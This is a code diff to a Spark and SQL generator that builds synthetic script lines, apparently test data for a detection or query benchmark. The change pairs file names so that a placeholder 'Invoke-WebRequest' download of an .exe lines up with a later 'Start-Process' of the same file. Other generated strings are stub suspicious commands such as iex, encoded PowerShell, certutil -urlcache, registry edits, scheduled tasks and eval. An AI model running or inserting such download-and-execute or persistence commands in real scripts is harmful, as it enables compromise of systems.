@@ -91,7 +91,8 @@ def script_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
     n = F.col("p_partkey").cast("string")
     group = F.col("p_partkey") % 3
     k = F.col("p_size") % 8
-    ps = F.when(k == 0, F.concat(F.lit("Invoke-WebRequest https://h -OutFile f"), F.col("p_partkey").cast("string"), F.lit(".exe"))).when(k == 1, F.concat(F.lit("Start-Process f"), (F.col("p_partkey") - 3).cast("string"), F.lit(".exe"))).when(k == 2, F.lit('iex "x"')).when(k == 3, F.lit("Remove-Item a")).when(k == 4, F.lit("Set-Service s")).when(k == 5, F.lit("$env:PATH and $env:HOME")).when(k == 6, F.lit("# iex x")).otherwise(F.lit("run -enc AAAA"))
+    target = (F.floor(F.col("p_partkey") / 3) % 2).cast("string")
+    ps = F.when(k == 0, F.concat(F.lit("Invoke-WebRequest https://h -OutFile f"), target, F.lit(".exe"))).when(k == 1, F.concat(F.lit("Start-Process f"), target, F.lit(".exe"))).when(k == 2, F.lit('iex "x"')).when(k == 3, F.lit("Remove-Item a")).when(k == 4, F.lit("Set-Service s")).when(k == 5, F.lit("$env:PATH and $env:HOME")).when(k == 6, F.lit("# iex x")).otherwise(F.lit("run -enc AAAA"))
     bat = F.when(k == 0, F.lit("powershell -enc AAAA")).when(k == 1, F.lit("cmd.exe /c dir")).when(k == 2, F.lit("certutil -urlcache x")).when(k == 3, F.lit("reg add HKLM")).when(k == 4, F.lit("schtasks /create x")).when(k == 5, F.lit("del /s x")).when(k == 6, F.lit("REM cmd /c")).otherwise(F.lit("taskkill /f"))
     js = F.when(k == 0, F.lit("child_process.exec('x')")).when(k == 1, F.lit("eval (x)")).when(k == 2, F.lit("fetch(u); axios.get(u)")).when(k == 3, F.lit("fs.unlinkSync(p)")).when(k == 4, F.lit("process.env.HOME")).when(k == 5, F.lit("// eval(x)")).when(k == 6, F.lit("new Function (s)")).otherwise(F.lit("let a = 1"))
     lang = F.when(group == 0, "powershell").when(group == 1, "batch").otherwise("javascript")
@@ -109,7 +110,7 @@ SCRIPT_LINES_SQL = """script_lines AS (
     CASE p_partkey % 3 WHEN 0 THEN 'powershell' WHEN 1 THEN 'batch' ELSE 'javascript' END AS language,
     CASE p_partkey % 3 WHEN 0 THEN '.ps1' WHEN 1 THEN '.bat' ELSE '.js' END AS suffix,
     CASE p_partkey % 3
-      WHEN 0 THEN CASE p_size % 8 WHEN 0 THEN 'Invoke-WebRequest https://h -OutFile f' || p_partkey || '.exe' WHEN 1 THEN 'Start-Process f' || (p_partkey - 3) || '.exe'
+      WHEN 0 THEN CASE p_size % 8 WHEN 0 THEN 'Invoke-WebRequest https://h -OutFile f' || (p_partkey // 3 % 2) || '.exe' WHEN 1 THEN 'Start-Process f' || (p_partkey // 3 % 2) || '.exe'
         WHEN 2 THEN 'iex "x"' WHEN 3 THEN 'Remove-Item a' WHEN 4 THEN 'Set-Service s' WHEN 5 THEN '$env:PATH and $env:HOME' WHEN 6 THEN '# iex x' ELSE 'run -enc AAAA' END
       WHEN 1 THEN CASE p_size % 8 WHEN 0 THEN 'powershell -enc AAAA' WHEN 1 THEN 'cmd.exe /c dir' WHEN 2 THEN 'certutil -urlcache x' WHEN 3 THEN 'reg add HKLM'
         WHEN 4 THEN 'schtasks /create x' WHEN 5 THEN 'del /s x' WHEN 6 THEN 'REM cmd /c' ELSE 'taskkill /f' END
